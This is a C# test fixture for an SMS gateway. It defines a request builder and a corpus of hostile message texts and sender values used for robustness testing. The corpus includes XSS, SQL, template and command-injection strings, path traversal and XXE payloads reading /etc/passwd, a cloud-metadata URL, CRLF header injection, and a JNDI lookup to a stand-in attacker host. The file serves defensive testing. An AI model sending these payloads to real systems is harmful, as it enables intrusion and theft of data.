using System.Net.Http.Headers;

namespace Gateway.Tests.Channels.Sms.Corpus;

/// <summary>One call of the corpus, and what may become of it.</summary>
/// <param name="Name">Says which it is when it fails.</param>
/// <param name="Path">Address with its query.</param>
/// <param name="Body">The bytes.</param>
/// <param name="Genuine">Whether it shows that it comes from the provider. What does not may change nothing.</param>
internal sealed record HostileCall(string Name, string Path, byte[] Body, bool Genuine)
{
    public string ContentType { get; init; } = "application/json";

    public IReadOnlyList<(string Name, string Value)> Headers { get; init; } = [];

    /// <summary>Whether a good event stands beside the spoilt one.</summary>
    public bool HasNeighbour { get; init; }

    public HttpMethod Method { get; init; } = HttpMethod.Post;

    public HttpRequestMessage Request()
    {
        var request = new HttpRequestMessage(Method, Path) { Content = new ByteArrayContent(Body) };
        if (ContentType.Length > 0) request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(ContentType);
        foreach (var (name, value) in Headers)
        {
            if (!request.Headers.TryAddWithoutValidation(name, value)) request.Content.Headers.TryAddWithoutValidation(name, value);
        }

        return request;
    }
}

/// <summary>Texts that have broken somebody's parser, page or log before.</summary>
internal static class HostileTexts
{
    public static readonly (string Name, string Text)[] All =
    [
        ("space", " "), ("full-width space", "　"), ("around", "  まわり  "), ("newlines", "一\r\n二\n三\r四"), ("tab", "\t"), ("nul", "前\0後"), ("controls", "\u0001\u0008\u001b[31m\u007f"),
        ("bom", "\uFEFF中"), ("bidi", "\u202Eさかさ\u202C"), ("zero width", "a\u200B\u200D\u2060b"), ("line separators", "\u2028\u2029"), ("emoji", "😊👨‍👩‍👧‍👦🇯🇵"), ("emoji only", "😭"),
        ("combining", "か\u3099" + new string('\u0301', 50)), ("long", new string('あ', 5000)), ("very long", new string('x', 50_000)), ("many lines", string.Join('\n', Enumerable.Range(0, 2000))),
        ("tag", "<script>alert(1)</script>"), ("img", "<img src=x onerror=alert(1)>"), ("quote", "\"'`"), ("entity", "&amp;&#x3c;&lt;"), ("template", "{{7*7}}${7*7}#{7}<%=7%>"),
        ("sql", "'; DROP TABLE entry; --"), ("format", "%s%n%x{0}{1}"), ("percent", "%41%zz%"), ("plus", "a+b=c&d"), ("url", "http://169.254.169.254/latest/meta-data"),
        ("json", "{\"a\":[1,null]}"), ("xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), ("twiml", "<Response><Message>x</Message></Response>"),
        ("path", "../../../../etc/passwd"), ("command", "$(id)`id`|id;id"), ("crlf header", "x\r\nSet-Cookie: a=b"), ("jndi", "${jndi:ldap://evil.example/a}"), ("backslashes", "\\\\\\u0041"),
        ("noncharacters", "\uFFFE\uFFFF\uFDD0"), ("private use", "\uE000\uF8FF"), ("astral", "𠮷野家𩸽"), ("half width", "ｶﾞｷﾞ"), ("number", "1e309"), ("stop in a sentence", "停止したい"), ("word to stop", "停止"),
        ("stop", "STOP"), ("start", "START"), ("gsm", "@£$¥èéùìòÇØøÅåΔ_ΦΓΛΩΠΨΣΘΞ^{}\\[~]|€"), ("vcard", "BEGIN:VCARD\nFN:x\nEND:VCARD"), ("question", "?"), ("dots", "…"), ("zalgo", "Z̸̡a̷͢l̴g̵o̶"),
    ];

    public static readonly string[] Senders =
    [
        "+819012345678", "819012345678", "09012345678", "０９０１２３４５６７８", "+81 90-1234-5678", "", "+", "0", "anonymous", "Anonymous", "KOMOREBI", "+266696687", "5555", "+1234567890123456",
        "whatsapp:+819012345678", "tel:+819012345678", "sip:a@b", "+81９０12345678", "+819012345678,+819012345679", "+81901234567８", "９".PadRight(200, '９'), "'; --", "\0", "+８１", "null", "🙂",
    ];
}
